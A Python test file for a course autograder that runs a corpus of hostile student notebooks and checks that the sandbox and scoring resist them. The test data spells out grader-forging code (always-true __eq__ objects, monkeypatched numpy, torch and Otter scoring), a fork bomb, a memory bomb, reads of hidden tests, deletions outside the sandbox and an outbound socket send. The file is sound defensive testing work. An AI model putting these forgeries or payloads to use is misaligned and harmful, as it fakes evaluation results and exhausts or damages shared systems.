"""Adversarial corpus: each hostile notebook earns what its honest work deserves; the grader survives.

"Honest work" is measured, not assumed: each attack is graded beside its honest
counterpart (the same notebook with the attacking function replaced by one that returns
None, or without the attacking cell), and the two scores must be equal.
"""
from __future__ import annotations

import socket
import threading
from pathlib import Path

import pytest

from autograder.grade.engine import Bundle
from autograder.grade.sandbox import isolation
from autograder.grade.specimens import notebook_with, reference_source
from tests.grading import CORPUS_ROWS, SHORT, grade_notebook, student_notebook, with_cell

FORGED = '''
class Forged:
    shape = (1,)
    dtype = __import__("numpy").dtype("float64")
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __torch_function__(self, *a, **k): return True
    def __float__(self): return 0.5
    def __repr__(self): return "array([0.5])"
'''
NONE_SIGMOID = "\ndef sigmoid(z):\n    return None\n"

# label -> (how the notebook is made, and its honest counterpart); "ref" = reference answers, "stub" = none
ATTACKS = {
    "always-true __eq__": ("ref", FORGED + "\ndef sigmoid(z):\n    return Forged()\n", None, NONE_SIGMOID),
    "__array_function__ / __array_ufunc__ object": (
        "ref", FORGED + "\nclass Dispatch(Forged):\n    pass\ndef sigmoid(z):\n    return Dispatch()\n", None,
        NONE_SIGMOID),
    "ndarray subclass": ("ref", "\nclass A(np.ndarray):\n    def __eq__(self, o): return True\n"
                         "def sigmoid(z):\n    return np.zeros(np.shape(z)).view(A)\n", None, NONE_SIGMOID),
    "monkeypatched numpy (allclose, isclose, testing)": (
        "stub", None, "import numpy as np\nnp.allclose = np.isclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.array_equal = lambda *a, **k: True\n", None),
    "monkeypatched Otter runner": (
        "stub", None, "import otter.test_files.abstract_test as t\n"
        "t.TestFile.score = property(lambda self: 99)\n"
        "import otter.test_files.exception_test as e\ne.test_case.call_func = lambda *a, **k: None\n", None),
    "sys.exit in a cell": ("ref", None, "import sys\nsys.exit(0)\n", None),
    "KeyboardInterrupt in a cell": ("ref", None, "raise KeyboardInterrupt\n", None),
    "os._exit in a cell": ("ref", None, "import os\nos._exit(3)\n", None),
    "infinite loop in a cell": ("ref", None, "while True:\n    pass\n", None),
    "infinite loop in a function": ("ref", "\ndef sigmoid(z):\n    while True:\n        pass\n", None, NONE_SIGMOID),
    "os._exit inside a function": ("ref", "\ndef sigmoid(z):\n    import os\n    os._exit(1)\n", None,
                                    NONE_SIGMOID),
    "memory bomb": ("ref", None, "blocks = []\nwhile True:\n    blocks.append(bytearray(256 * 1024**2))\n", None),
    "fork bomb": ("ref", None, "import os\nfor _ in range(100000):\n    try:\n        os.fork()\n"
                  "    except OSError:\n        pass\n", None),
    "gigabytes of output": ("ref", None, "line = 'x' * 1_000_000\nfor _ in range(4000):\n    print(line)\n", None),
    "detects grading mode and forges": (
        "ref", FORGED + "\nimport os, sys\nif 'DLCOURSE_DEVICE' in os.environ or not sys.stdout.isatty():\n"
        "    def sigmoid(z):\n        return Forged()\n", None, NONE_SIGMOID),
    "mutates the tests' inputs in place": ("ref", "\ndef relu(z):\n    z[z < 0] = 0\n    return z\n", None,
                                           "\ndef relu(z):\n    return None\n"),
}


@pytest.fixture(scope="module")
def activations(built):
    bundle = Bundle(built["activations"].autograder_zip)
    yield bundle, student_notebook(built, "activations")
    bundle.close()


def _make(stub: dict, base: str, code: str | None, cell: str | None) -> dict:
    notebook = notebook_with(stub, base + (code or "")) if base or code else stub
    return with_cell(notebook, cell) if cell else notebook


@pytest.mark.parametrize("label", list(ATTACKS))
def test_attack_earns_what_honest_work_earns(label, activations, tmp_path):
    bundle, stub = activations
    start, code, cell, honest_code = ATTACKS[label]
    base = reference_source("activations") if start == "ref" else ""
    attack = grade_notebook(bundle, _make(stub, base, code, cell), tmp_path, "attack", timeouts=SHORT)
    honest = grade_notebook(bundle, _make(stub, base, honest_code, None), tmp_path, "honest", timeouts=SHORT)
    CORPUS_ROWS.append((label, "activations", attack.score, honest.score, attack.possible, attack.status))
    assert attack.score == honest.score, attack.table()
    assert attack.status in ("graded", "timeout", "crashed") and len(attack.questions) == 4


def test_reading_the_hidden_tests_or_the_reference_finds_nothing(activations, tmp_path):
    """A stub that copies the reference package or the hidden tests when it can find them."""
    bundle, stub = activations
    root = Path(__file__).resolve().parents[1]
    cell = f'''
import glob, os, sys
found = glob.glob("/tmp/dlcourse-bundle-*/**/*.py", recursive=True) + glob.glob({str(root)!r} + "/solutions/*.py")
found += glob.glob({str(bundle.dir)!r} + "/**/*", recursive=True)
sys.path[:0] = [{str(root)!r}, {str(bundle.dir / "files")!r}]
try:
    from solutions.activations import *
except ImportError:
    pass
'''
    result = grade_notebook(bundle, with_cell(stub, cell), tmp_path, "reader", timeouts=SHORT)
    CORPUS_ROWS.append(("reads hidden tests / reference", "activations", result.score, 0.0, result.possible,
                        result.status))
    if isolation() != "bwrap":
        pytest.skip("file hiding needs bubblewrap (the rlimit fallback does not hide files)")
    assert result.score == 0, result.table()


def test_writing_and_deleting_outside_the_scratch_folder_fails(activations, tmp_path):
    bundle, stub = activations
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    target = Path(__file__).resolve().parents[1] / "pwned.txt"
    cell = f'''
for action in (lambda: open({str(target)!r}, "w").write("x"), lambda: __import__("os").remove({str(victim)!r}),
               lambda: __import__("shutil").rmtree({str(bundle.dir)!r})):
    try:
        action()
    except Exception:
        pass
'''
    notebook = with_cell(notebook_with(stub, reference_source("activations")), cell)
    result = grade_notebook(bundle, notebook, tmp_path, "writer", timeouts=SHORT)
    CORPUS_ROWS.append(("writes / deletes outside scratch", "activations", result.score, result.possible,
                        result.possible, result.status))
    assert result.score == result.possible
    if isolation() != "bwrap":
        pytest.skip("file protection needs bubblewrap")
    assert victim.read_text() == "keep me" and not target.exists() and (bundle.dir / "tests").is_dir()


def test_network_connections_do_not_leave_the_sandbox(activations, tmp_path):
    bundle, stub = activations
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    accepted = []

    def accept():
        for _ in range(30):
            try:
                accepted.append(server.accept())
            except OSError:
                pass
    thread = threading.Thread(target=accept)
    thread.start()
    cell = f'''
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"answers please")
    except OSError:
        pass
'''
    result = grade_notebook(bundle, with_cell(notebook_with(stub, reference_source("activations")), cell),
                            tmp_path, "network", timeouts=SHORT)
    thread.join()
    server.close()
    CORPUS_ROWS.append(("network connection", "activations", result.score, result.possible, result.possible,
                        result.status))
    assert result.score == result.possible
    if isolation() != "bwrap":
        pytest.skip("network isolation of the rlimit fallback needs root")
    assert not accepted


def test_autograd_inside_manual_backprop_earns_nothing_for_backward(built, tmp_path):
    bundle = Bundle(built["backprop"].autograder_zip)
    try:
        stub = student_notebook(built, "backprop")
        base = reference_source("backprop")
        cheat = '''
def backward(y, zs, activations, W, activation_grad, loss_grad):
    import torch
    Ws = [torch.tensor(w, requires_grad=True) for w in W]
    torch.autograd.grad(sum(w.sum() for w in Ws), Ws)
    return None
'''
        attack = grade_notebook(bundle, notebook_with(stub, base + cheat), tmp_path, "autograd", timeouts=SHORT)
        honest = grade_notebook(bundle, notebook_with(stub, base + "\ndef backward(*a, **k):\n    return None\n"),
                                tmp_path, "honest", timeouts=SHORT)
    finally:
        bundle.close()
    CORPUS_ROWS.append(("autograd in manual backprop", "backprop", attack.score, honest.score, attack.possible,
                        attack.status))
    assert attack.score == honest.score < attack.possible


def test_lab_forgeries_tensor_subclass_and_patched_torch(built, tmp_path):
    bundle = Bundle(built["lab_af"].autograder_zip)
    try:
        stub = student_notebook(built, "lab_af")
        base = reference_source("lab_af")
        subclass = '''
class Sneaky(torch.Tensor):
    def __eq__(self, other): return True
_real_mlp_forward = MLP.forward
def _forward(self, x):
    return _real_mlp_forward(self, x).as_subclass(Sneaky)
MLP.forward = _forward
'''
        patched = "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
        attack = grade_notebook(bundle, notebook_with(stub, base + subclass), tmp_path, "subclass")
        honest = grade_notebook(bundle, notebook_with(stub, base + "\nMLP.forward = lambda self, x: None\n"),
                                tmp_path, "honest")
        patch = grade_notebook(bundle, with_cell(stub, patched), tmp_path, "patched")
    finally:
        bundle.close()
    CORPUS_ROWS.append(("Tensor subclass from forward", "lab_af", attack.score, honest.score, attack.possible,
                        attack.status))
    CORPUS_ROWS.append(("monkeypatched torch", "lab_af", patch.score, 0.0, patch.possible, patch.status))
    assert attack.score == honest.score < attack.possible
    assert patch.score == 0
